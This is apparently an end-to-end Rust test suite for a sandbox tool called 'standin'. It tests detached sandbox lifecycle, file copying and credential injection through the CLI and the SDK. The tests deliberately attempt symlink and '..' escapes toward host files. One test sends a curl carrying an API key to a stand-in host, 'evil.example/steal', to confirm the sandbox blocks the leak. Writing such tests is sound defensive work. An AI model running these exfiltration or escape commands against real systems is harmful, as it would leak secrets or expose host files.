//! End-to-end: named, detached sandboxes (`run -d`, `ls`, `exec`, `logs`, `stop`, `rm`,
//! `inspect`, `cp`) through the real binary, and the same through the SDK (`detached(true)`,
//! `Sandbox::get`, `list`, the file API). Every CLI test has a state directory of its own
//! (`STANDIN_HOME`); SDK tests use unique names and remove their sandboxes on drop.

mod support;

use standin::Sandbox;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use support::*;

/// A state directory for one test, and `standin` commands run against it.
struct Home(tempfile::TempDir);

impl Home {
    fn new() -> Home {
        Home(tempfile::tempdir().unwrap())
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(standin_bin());
        c.args(args).env("STANDIN_HOME", self.0.path());
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd(args).output().unwrap()
    }

    /// Run and require success; stdout.
    fn ok(&self, args: &[&str]) -> String {
        let o = self.run(args);
        assert!(o.status.success(), "standin {args:?}: {}", both(&o));
        stdout(&o)
    }

    fn ls(&self) -> Vec<serde_json::Value> {
        serde_json::from_str(&self.ok(&["ls", "--json"])).unwrap()
    }

    fn entry(&self, name: &str) -> serde_json::Value {
        self.ls()
            .into_iter()
            .find(|e| e["name"] == name)
            .unwrap_or_else(|| panic!("{name} not listed"))
    }
}

impl Drop for Home {
    fn drop(&mut self) {
        // Stop whatever a failed test left running before its state goes.
        if let Ok(list) =
            serde_json::from_str::<Vec<serde_json::Value>>(&stdout(&self.run(&["ls", "--json"])))
        {
            for e in list {
                let _ = self.run(&["rm", "-f", e["name"].as_str().unwrap_or("")]);
            }
        }
    }
}

fn both(o: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status.code(),
        stdout(o),
        stderr(o)
    )
}

/// Block until the process `pid` is gone (bounded: 10 s), through its pidfd.
fn wait_gone(pid: i64) -> bool {
    let Ok(pid) = i32::try_from(pid) else {
        return true;
    };
    let out = Command::new("python3")
        .args([
            "-c",
            "import os,select,sys\ntry:\n fd=os.pidfd_open(int(sys.argv[1]))\nexcept ProcessLookupError:\n sys.exit(0)\np=select.poll(); p.register(fd, select.POLLIN)\nsys.exit(0 if p.poll(10000) else 1)",
            &pid.to_string(),
        ])
        .output()
        .unwrap();
    out.status.success()
}

#[test]
#[ignore = "needs root (sandbox state under the test's own STANDIN_HOME, cgroups); .ci/run runs it with --include-ignored"]
fn a_detached_sandbox_outlives_its_cli_and_is_listed_execd_logged_stopped_and_removed() {
    require_root();
    let home = Home::new();
    let script = "echo started; trap 'echo got-term; exit 7' TERM; while :; do sleep 0.05; done";
    let name = home.ok(&[
        "run",
        "-d",
        "--name",
        "life",
        "--no-network",
        "--memory",
        "256M",
        "--",
        "sh",
        "-c",
        script,
    ]);
    assert_eq!(name, "life\n");
    // The CLI has exited; the sandbox runs on under its supervisor.
    let e = home.entry("life");
    assert_eq!(e["state"], "running", "{e}");
    assert_eq!(e["root"], "host", "{e}");
    assert_eq!(e["limits"]["memory"], 256 << 20, "{e}");
    assert_eq!(e["id"].as_str().unwrap().len(), 12, "{e}");
    let table = home.ok(&["ls"]);
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("life ") && l.contains("running") && l.contains("mem 256 MiB")),
        "{table}"
    );

    let o = home.run(&[
        "exec",
        "life",
        "--",
        "sh",
        "-c",
        "echo $((6*7)); hostname; exit 3",
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", both(&o));
    assert_eq!(stdout(&o), "42\nstandin\n");
    // stdin is this process's, passed through.
    let mut child = home
        .cmd(&["exec", "life", "--", "tr", "a-z", "A-Z"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"piped in\n")
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(stdout(&o), "PIPED IN\n");
    // The exec shares the sandbox: its PID 1 is the sandbox's init.
    let o = home.run(&[
        "exec",
        "life",
        "--",
        "sh",
        "-c",
        "tr '\\0' ' ' < /proc/1/cmdline",
    ]);
    assert!(stdout(&o).contains("__standin-stage1"), "{}", both(&o));

    assert!(home.ok(&["logs", "life"]).starts_with("started\n"));
    let inspect: serde_json::Value = serde_json::from_str(&home.ok(&["inspect", "life"])).unwrap();
    assert_eq!(inspect["state"], "running");
    assert!(
        inspect["usage"]["pids_current"].as_u64().unwrap() >= 2,
        "{inspect}"
    );
    assert!(
        inspect["usage"]["memory_current"].as_u64().unwrap() > 0,
        "{inspect}"
    );
    assert_eq!(inspect["config"]["command"][2], script);

    assert_eq!(home.ok(&["stop", "-t", "10", "life"]), "life\n");
    let e = home.entry("life");
    assert_eq!(
        (e["state"].as_str(), e["exit_code"].as_i64()),
        (Some("exited"), Some(7)),
        "{e}"
    );
    assert!(wait_gone(e["init_pid"].as_i64().unwrap()));
    assert_eq!(home.ok(&["logs", "life"]), "started\ngot-term\n");
    let o = home.run(&["exec", "life", "--", "true"]);
    assert_eq!(o.status.code(), Some(125), "{}", both(&o));
    assert!(stderr(&o).contains("has exited (code 7)"), "{}", both(&o));

    assert_eq!(home.ok(&["rm", "life"]), "life\n");
    assert!(home.ls().is_empty());
    let o = home.run(&["logs", "life"]);
    assert!(
        stderr(&o).contains("no sandbox named \"life\""),
        "{}",
        both(&o)
    );
}

#[test]
#[ignore = "needs root (sandbox state under the test's own STANDIN_HOME, cgroups); .ci/run runs it with --include-ignored"]
fn names_are_checked_and_unique_and_a_running_sandbox_is_not_removed_by_accident() {
    require_root();
    let home = Home::new();
    for bad in ["bad name", "-x", &"n".repeat(64)] {
        let o = home.run(&[
            "run",
            "-d",
            &format!("--name={bad}"),
            "--no-network",
            "--",
            "true",
        ]);
        assert_eq!(o.status.code(), Some(125), "{}", both(&o));
        assert!(stderr(&o).contains("1 to 63 characters"), "{}", both(&o));
    }
    home.ok(&["run", "-d", "--name", "dup", "--no-network"]);
    let o = home.run(&["run", "-d", "--name", "dup", "--no-network"]);
    assert_eq!(o.status.code(), Some(125), "{}", both(&o));
    assert!(stderr(&o).contains("already running"), "{}", both(&o));
    let o = home.run(&["rm", "dup"]);
    assert_eq!(o.status.code(), Some(1), "{}", both(&o));
    assert!(
        stderr(&o).contains("is running; stop it first"),
        "{}",
        both(&o)
    );
    // A sandbox without a main command ends at once on stop (143: as if terminated).
    home.ok(&["stop", "dup"]);
    assert_eq!(home.entry("dup")["exit_code"], 143);
    let o = home.run(&["run", "-d", "--name", "dup", "--no-network"]);
    assert!(
        stderr(&o).contains("exists (exited); remove it first"),
        "{}",
        both(&o)
    );
    home.ok(&["run", "-d", "--name", "forced", "--no-network"]);
    let pid = home.entry("forced")["init_pid"].as_i64().unwrap();
    assert_eq!(home.ok(&["rm", "-f", "forced"]), "forced\n");
    assert!(wait_gone(pid), "rm -f left the sandbox running");
    assert_eq!(home.ls().len(), 1);
}

#[test]
#[ignore = "needs root (sandbox state under the test's own STANDIN_HOME, cgroups); .ci/run runs it with --include-ignored"]
fn stop_kills_what_ignores_sigterm_once_the_grace_period_is_over() {
    require_root();
    let home = Home::new();
    home.ok(&[
        "run",
        "-d",
        "--name",
        "stubborn",
        "--no-network",
        "--",
        "sh",
        "-c",
        "trap '' TERM; echo ready; while :; do sleep 0.05; done",
    ]);
    home.ok(&["stop", "-t", "1", "stubborn"]);
    let e = home.entry("stubborn");
    assert_eq!(e["exit_code"], 137, "{e}");
}

#[test]
#[ignore = "needs root (sandbox state under the test's own STANDIN_HOME, cgroups); .ci/run runs it with --include-ignored"]
fn a_killed_supervisor_takes_its_sandbox_along_and_leaves_a_dead_record_to_prune() {
    require_root();
    let home = Home::new();
    home.ok(&[
        "run",
        "-d",
        "--name",
        "orphan",
        "--no-network",
        "--",
        "sh",
        "-c",
        "while :; do sleep 0.05; done",
    ]);
    let e = home.entry("orphan");
    let (sup, init) = (
        e["supervisor_pid"].as_i64().unwrap(),
        e["init_pid"].as_i64().unwrap(),
    );
    let status = Command::new("kill")
        .args(["-9", &sup.to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    assert!(wait_gone(sup));
    assert!(wait_gone(init), "the sandbox outlived its supervisor");
    assert_eq!(home.entry("orphan")["state"], "dead");
    let o = home.run(&["exec", "orphan", "--", "true"]);
    assert!(
        stderr(&o).contains("supervisor of sandbox \"orphan\" died"),
        "{}",
        both(&o)
    );
    home.ok(&["ls", "--prune"]);
    assert!(home.ls().is_empty());
}

#[test]
#[ignore = "needs root (sandbox state under the test's own STANDIN_HOME, cgroups); .ci/run runs it with --include-ignored"]
fn cp_moves_trees_both_ways_with_modes_and_sandbox_symlinks_never_reach_host_files() {
    require_root();
    let home = Home::new();
    // A file only host root may read, bound into the sandbox: the sandbox's root is not host
    // root, so it sees the file and cannot read it.
    let guarded = tempfile::tempdir().unwrap();
    std::fs::write(guarded.path().join("secret"), "host-only\n").unwrap();
    std::fs::set_permissions(
        guarded.path().join("secret"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(guarded.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let mount = format!("{}:/data:ro", guarded.path().display());
    home.ok(&[
        "run",
        "-d",
        "--name",
        "files",
        "--no-network",
        "--mount",
        &mount,
    ]);
    let secret = "/data/secret";
    let host = tempfile::tempdir().unwrap();
    let src = host.path().join("in");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    std::fs::write(src.join("sub/run.sh"), "#!/bin/sh\necho ran\n").unwrap();
    std::fs::set_permissions(
        src.join("sub/run.sh"),
        std::fs::Permissions::from_mode(0o750),
    )
    .unwrap();
    std::os::unix::fs::symlink("sub/run.sh", src.join("link")).unwrap();
    home.ok(&["cp", src.to_str().unwrap(), "files:/tmp/"]);
    let o = home.ok(&[
        "exec",
        "files",
        "--",
        "sh",
        "-c",
        "stat -c '%a %U' /tmp/in/sub/run.sh; readlink /tmp/in/link; /tmp/in/sub/run.sh",
    ]);
    assert_eq!(o, "750 root\nsub/run.sh\nran\n");
    // As a new name when the destination does not exist.
    home.ok(&[
        "cp",
        src.join("sub/run.sh").to_str().unwrap(),
        "files:/tmp/renamed.sh",
    ]);
    assert_eq!(
        home.ok(&["exec", "files", "--", "cat", "/tmp/renamed.sh"]),
        "#!/bin/sh\necho ran\n"
    );

    home.ok(&[
        "exec",
        "files",
        "--",
        "sh",
        "-c",
        &format!(
            "mkdir -p /tmp/out/d && echo out > /tmp/out/d/f && chmod 4755 /tmp/out/d/f && \
             ln -s {secret} /tmp/out/esc && ln -s ../../../../../../ /tmp/out/up && \
             ln -s {secret} /tmp/secretlink && ln -s /etc /tmp/etclink"
        ),
    ]);
    let dest = host.path().join("got");
    std::fs::create_dir(&dest).unwrap();
    home.ok(&["cp", "files:/tmp/out", dest.to_str().unwrap()]);
    let f = dest.join("out/d/f");
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "out\n");
    assert_eq!(
        std::fs::metadata(&f).unwrap().permissions().mode() & 0o7777,
        0o755,
        "set-user-ID survived the copy out"
    );
    // Symlinks come out as symlinks: the host side never followed them.
    assert_eq!(
        std::fs::read_link(dest.join("out/esc")).unwrap(),
        Path::new(&secret)
    );
    assert!(
        std::fs::symlink_metadata(dest.join("out/up"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let single = host.path().join("single");
    home.ok(&["cp", "files:/tmp/secretlink", single.to_str().unwrap()]);
    assert!(
        std::fs::symlink_metadata(&single)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // Reading through a symlink happens inside, with the sandbox's rights: refused.
    let o = home.run(&[
        "cp",
        &format!("files:/tmp/out/up{secret}"),
        host.path().join("y").to_str().unwrap(),
    ]);
    assert_ne!(o.status.code(), Some(0), "{}", both(&o));
    assert!(stderr(&o).contains("Permission denied"), "{}", both(&o));
    assert!(!host.path().join("y").exists());
    // Writing through a symlink the sandbox planted lands in the sandbox's /etc, which is
    // read-only there; the host's /etc is untouched.
    let planted = format!("planted-{}", std::process::id());
    let o = home.run(&[
        "cp",
        src.join("sub/run.sh").to_str().unwrap(),
        &format!("files:/tmp/etclink/{planted}"),
    ]);
    assert_ne!(o.status.code(), Some(0), "{}", both(&o));
    assert!(!Path::new("/etc").join(&planted).exists());
    // `..` is refused before anything runs.
    let o = home.run(&[
        "cp",
        "files:/tmp/../../etc/passwd",
        host.path().join("z").to_str().unwrap(),
    ]);
    assert!(stderr(&o).contains("without `..`"), "{}", both(&o));
    let o = home.run(&["cp", "a", "b"]);
    assert!(
        stderr(&o).contains("name a sandbox on one side"),
        "{}",
        both(&o)
    );
}

/// Removes an SDK test's detached sandbox (running or not) when the test ends.
struct Cleanup(&'static str);

impl Drop for Cleanup {
    fn drop(&mut self) {
        let _ = Command::new(standin_bin())
            .args(["rm", "-f", self.0])
            .output();
    }
}

#[tokio::test]
async fn the_sdk_detaches_reattaches_lists_and_works_with_files_in_both_kinds_of_handle() {
    let name = "sdk-detached-files-test";
    let _cleanup = Cleanup(name);
    let _ = Sandbox::remove(name, true).await;
    let sb = Sandbox::builder(name)
        .helper(standin_bin())
        .no_network()
        .detached(true)
        .create()
        .await
        .unwrap();
    assert!(sb.is_detached());
    let id = sb.id().to_owned();
    drop(sb); // a detached handle does not stop its sandbox
    let sb = Sandbox::get(name).await.unwrap();
    assert_eq!(sb.id(), id);
    let listed = Sandbox::list().unwrap();
    let me = listed.iter().find(|i| i.name == name).expect("listed");
    assert_eq!(me.state, standin::SandboxState::Running);
    files_round_trip(&sb).await;

    let attached = Sandbox::builder("sdk-attached-files")
        .helper(standin_bin())
        .no_network()
        .create()
        .await
        .unwrap();
    assert!(!attached.is_detached());
    files_round_trip(&attached).await;

    assert_eq!(
        sb.stop_gracefully(std::time::Duration::from_secs(5))
            .await
            .unwrap(),
        143
    );
    assert!(Sandbox::get(name).await.is_err());
    Sandbox::remove(name, false).await.unwrap();
    let err = Sandbox::builder("bad name!")
        .helper(standin_bin())
        .detached(true)
        .create()
        .await
        .unwrap_err();
    assert!(err.to_string().contains("1 to 63 characters"), "{err}");
}

async fn files_round_trip(sb: &Sandbox) {
    let fs = sb.fs();
    fs.write("/tmp/a.txt", b"hello\n".to_vec()).await.unwrap();
    assert_eq!(fs.read_to_string("/tmp/a.txt").await.unwrap(), "hello\n");
    assert!(fs.exists("/tmp/a.txt").await.unwrap());
    assert!(!fs.exists("/tmp/none").await.unwrap());
    let st = fs.stat("/tmp/a.txt").await.unwrap();
    assert_eq!((st.kind, st.size), (standin::FileKind::File, 6));
    let out = sb
        .exec(
            "sh",
            [
                "-c",
                "mkdir /tmp/d && ln -s /etc/hostname /tmp/d/l && echo x > /tmp/d/x",
            ],
        )
        .await
        .unwrap();
    assert_eq!(out.code, 0, "{}", out.stderr_str());
    let names: Vec<String> = fs
        .list("/tmp/d")
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.name)
        .collect();
    assert_eq!(names, ["l", "x"]);
    let l = &fs.list("/tmp/d").await.unwrap()[0];
    assert_eq!(
        (l.kind, l.link.as_deref()),
        (standin::FileKind::Symlink, Some("/etc/hostname"))
    );
    let err = fs.read("/tmp/none").await.unwrap_err();
    assert!(err.to_string().contains("No such file"), "{err}");
    let host = tempfile::tempdir().unwrap();
    fs.copy_to_host("/tmp/d", host.path()).await.unwrap();
    assert_eq!(
        std::fs::read_to_string(host.path().join("d/x")).unwrap(),
        "x\n"
    );
    std::fs::write(host.path().join("up.txt"), "up\n").unwrap();
    fs.copy_from_host(host.path().join("up.txt"), "/tmp/up2.txt")
        .await
        .unwrap();
    assert_eq!(fs.read("/tmp/up2.txt").await.unwrap(), b"up\n");
    fs.remove("/tmp/d").await.unwrap();
    assert!(!fs.exists("/tmp/d").await.unwrap());
    let err = fs.read("relative").await.unwrap_err();
    assert!(err.to_string().contains("absolute path"), "{err}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_detached_supervisor_holds_the_boundary_and_the_value_which_never_touches_disk() {
    require_root();
    const VALUE: &str = "sk-detached-51c0ffee";
    let net = FakeInternet::with_http(&[80], &[443]);
    let home = Home::new();
    let ca = net.ca_file().display().to_string();
    let o = Command::new("ip")
        .args([
            "netns",
            "exec",
            &net.client,
            standin_bin(),
            "run",
            "-d",
            "--name",
            "keyed",
        ])
        .args([
            "--upstream-ca",
            &ca,
            "--secret",
            "OPENAI_API_KEY@api.openai.com",
        ])
        .args(["--on-secret-violation", "block-and-log"])
        .env("STANDIN_HOME", home.0.path())
        .env("OPENAI_API_KEY", VALUE)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", both(&o));
    // The CLI that read the value has exited: only the supervisor holds it now.
    let o = home.run(&[
        "exec", "keyed", "--", "sh", "-c",
        r#"echo "env=$OPENAI_API_KEY"; curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models; curl --http1.1 -s -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example/steal"#,
    ]);
    assert_eq!(
        stdout(&o),
        "env=$MSB_OPENAI_API_KEY\n200\n000\n",
        "{}",
        report(&o, &net)
    );
    let got = net.received_at(UPSTREAM_V4);
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}\r\n")),
        "{got}"
    );
    assert!(!net.received().contains("/steal"), "{}", net.received());
    let inspect = home.ok(&["inspect", "keyed"]);
    assert!(inspect.contains("$MSB_OPENAI_API_KEY"), "{inspect}");
    home.ok(&["stop", "keyed"]);
    // Nothing under the state directory holds the value, in any encoding a file could.
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, VALUE);
    let o = Command::new("grep")
        .args(["-rlaF", "-e", VALUE, "-e", &b64])
        .arg(home.0.path())
        .output()
        .unwrap();
    assert_eq!(stdout(&o), "", "the value was written to disk");
    assert_eq!(o.status.code(), Some(1), "{}", both(&o));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn secret_set_rotates_a_running_sandboxs_value_without_a_restart() {
    require_root();
    const OLD: &str = "sk-before-rotation-0001";
    const NEW: &str = "sk-after-rotation-0002";
    let net = FakeInternet::with_http(&[80], &[443]);
    let home = Home::new();
    let events = EventsFile::new();
    let ca = net.ca_file().display().to_string();
    let o = Command::new("ip")
        .args(["netns", "exec", &net.client, standin_bin(), "run", "-d"])
        .args([
            "--name",
            "rotating",
            "--upstream-ca",
            &ca,
            "--events",
            events.arg(),
        ])
        .args(["--secret", "OPENAI_API_KEY@api.openai.com"])
        .env("STANDIN_HOME", home.0.path())
        .env("OPENAI_API_KEY", OLD)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", both(&o));
    let call = |tag: &str| {
        let script = format!(
            r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/{tag}"#
        );
        let o = home.run(&["exec", "rotating", "--", "sh", "-c", &script]);
        assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
    };
    call("before");
    // The new value arrives on stdin, never in argv.
    let set = |env: &str, value: &str| {
        let mut child = home
            .cmd(&["secret", "set", "rotating", env])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        writeln!(child.stdin.take().unwrap(), "{value}").unwrap();
        child.wait_with_output().unwrap()
    };
    let o = set("OPENAI_API_KEY", NEW);
    assert!(o.status.success(), "{}", both(&o));
    call("after");
    let conns = net.connections();
    let sent = |tag: &str| net.sent_with(tag);
    assert!(
        sent("before").contains(&format!("Bearer {OLD}\r\n")),
        "{conns:?}"
    );
    assert!(
        sent("after").contains(&format!("Bearer {NEW}\r\n")),
        "{conns:?}"
    );
    // Unknown secrets are refused with a clear error, and nothing changes.
    let o = set("NOPE", "x");
    assert!(
        !o.status.success() && stderr(&o).contains("no secret NOPE"),
        "{}",
        both(&o)
    );
    let e = events.read();
    assert!(
        e.contains("\"secret-rotated\"") && e.contains("OPENAI_API_KEY"),
        "{e}"
    );
    assert!(!e.contains(OLD) && !e.contains(NEW), "{e}");
    home.ok(&["stop", "rotating"]);
}
